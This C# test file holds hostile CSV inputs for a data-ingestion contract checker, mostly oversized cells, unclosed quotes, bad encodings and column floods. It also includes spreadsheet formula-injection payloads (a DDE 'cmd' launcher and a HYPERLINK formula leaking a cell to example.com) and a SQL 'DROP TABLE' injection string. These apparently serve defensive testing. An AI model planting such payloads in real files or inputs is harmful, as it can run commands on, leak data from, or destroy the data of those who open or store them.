using System.Text;
using Landfall.Contracts;
using static Landfall.Tests.Attacks.AttackBytes;

namespace Landfall.Tests.Attacks;

/// <summary>Text that is meant to be CSV.</summary>
internal static class CsvAttacks
{
    private const string Group = "csv", Head = "id,note,amount\n";

    public static IEnumerable<Attack> All()
    {
        yield return Refused("a cell of 20 MB", () => [.. Utf8($"{Head}1,one,\n2,"), .. Over((byte)'x', 20_000_000), .. ",\n"u8], "csv", "the row that starts in line 3 is longer than 8 MiB", 3);
        yield return Refused("a quote without an end, 40 MB", () => [.. Utf8($"{Head}1,\""), .. Over((byte)'x', 40_000_000)], "csv", "is longer than 8 MiB", 2);
        yield return Refused("a quote without an end, 8 MB of rows", () => [.. Utf8($"{Head}1,\""), .. Repeated("2,two and more,\n", 500_000)], "csv", "a quoted cell is never closed", 2);
        yield return Refused("quotes and nothing else, 20 MB", () => Over((byte)'"', 20_000_000), "header", "the header", 1);
        yield return Lands("a cell of 8 MB", () => [.. Utf8($"{Head}1,"), .. Over((byte)'x', 8_000_000), .. ",\n2,two,\n"u8], 2);
        yield return Lands("a quoted cell of 8 MB of quotes", () => [.. Utf8($"{Head}1,\""), .. Over((byte)'"', 8_000_000), .. "\",\n2,two,\n"u8], 2);
        yield return Refused("10,001 columns", () => Utf8($"{Head.TrimEnd()},{string.Join(',', Enumerable.Range(0, 9_998).Select(i => $"c{i}"))}\n1,one,\n"), "header", "more than 10000 columns", 1);
        yield return Lands("a row of 10,001 cells", () => Utf8($"{Head}1,one,\n2{new string(',', 10_000)}\n3,three,\n"), 2, (3, null, "columns"));
        yield return Refused("a row of 3,000,000 cells", () => [.. Utf8($"{Head}1,one,\n2"), .. Over((byte)',', 3_000_000), .. "\n3,three,\n"u8], "csv", "has more than 2000000 cells", 3);
        yield return Refused("a header of 5 MB", () => Utf8($"id,{Noise(5_000_000)}\n1,one\n"), "header", "the header is longer than 512 KiB", 1);
        yield return Refused("a header twice", () => Utf8("id,note,amount,note\n1,one,,\n"), "header", "column 'note' stands twice", 1);
        yield return Lands("NUL bytes", () => Utf8($"{Head}1,a\0b,\n\0,two,\n3,three,\n"), 1, (2, "note", "encoding"), (3, "id", "logicalType"));
        yield return Refused("a megabyte of NUL", () => new byte[1 << 20], "header", "the header is longer than 512 KiB", 1);
        yield return Lands("surrogates, overlong and cut off UTF-8", () =>
            [.. Utf8($"{Head}1,"), 0xED, 0xA0, 0x80, .. ",\n2,"u8, 0xC0, 0xAF, .. ",\n3,"u8, 0xE2, 0x82, .. ",\n4,"u8, 0xF4, 0x90, 0x80, 0x80, .. ",\n5,five,\n"u8],
            1, (2, "note", "encoding"), (3, "note", "encoding"), (4, "note", "encoding"), (5, "note", "encoding"));
        foreach (var (encoding, name) in ((Encoding, string)[])[(Encoding.Unicode, "utf-16"), (Encoding.BigEndianUnicode, "utf-16be"), (Encoding.UTF32, "utf-32")])
            yield return Refused($"the mark of {name}", () => [.. encoding.Preamble, .. encoding.GetBytes($"{Head}1,one,\n")], "encoding", $"the file begins like {name}, and the contract says utf-8");
        yield return Refused("UTF-16 without a mark", () => Encoding.Unicode.GetBytes($"{Head}1,one,\n"), "encoding", "the file begins like utf-16");
        yield return Lands("the mark of UTF-8", () => Utf8($"\uFEFF{Head}1,one,\n"), 1);
        yield return Lands("a million empty lines", () => [.. Utf8($"{Head}1,one,\n"), .. Over((byte)'\n', 1_000_000), .. "2,two,\n"u8], 2);
        yield return Refused("line breaks and nothing else, 5 MB", () => Over((byte)'\n', 5_000_000), "header", "the header is longer than 512 KiB", Attack.AnyLine);
        yield return Lands("carriage returns alone", () => Utf8("id,note,amount\r1,one,\r2,two,\r"), 2);
        yield return Lands("formulas", () => Utf8($"{Head}1,=cmd|' /C calc'!A0,\n2,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",\n3,@SUM(1+1),\n=1+1,+1,\n"), 3, (5, "id", "logicalType"));
        yield return Lands("numbers that are none", () => Utf8($"{Head}1,,1e999999\n2,,NaN\n3,,Infinity\n4,,{new string('9', 10_000)}\n99999999999999999999,,\n5,,0x10\n6,,1\n"),
            1, (2, "amount", "logicalType"), (3, "amount", "logicalType"), (4, "amount", "logicalType"), (5, "amount", "logicalType"), (6, "id", "logicalType"), (7, "amount", "logicalType"));
        yield return Lands("a text of SQL", () => Utf8($"{Head}1,\"'); DROP TABLE attacks.neighbour; --\",\n2,\"\\.\n\\N\t$$\",\n"), 2);
        yield return Lands("no bytes", () => [], 0);
    }

    private static Attack Refused(string name, Func<byte[]> bytes, string rule, string words, long? line = null) => Attack.Refused(Group, name, FormatType.Csv, bytes, rule, words, line);

    private static Attack Lands(string name, Func<byte[]> bytes, long rows, params IReadOnlyList<(long Line, string? Column, string Rule)> rejects) => Attack.Lands(Group, name, FormatType.Csv, bytes, rows, rejects);

    private static byte[] Repeated(string text, int times)
    {
        var (one, bytes) = (Utf8(text), new byte[text.Length * times]);
        for (var i = 0; i < times; i++) one.CopyTo(bytes.AsSpan(i * one.Length));
        return bytes;
    }
}
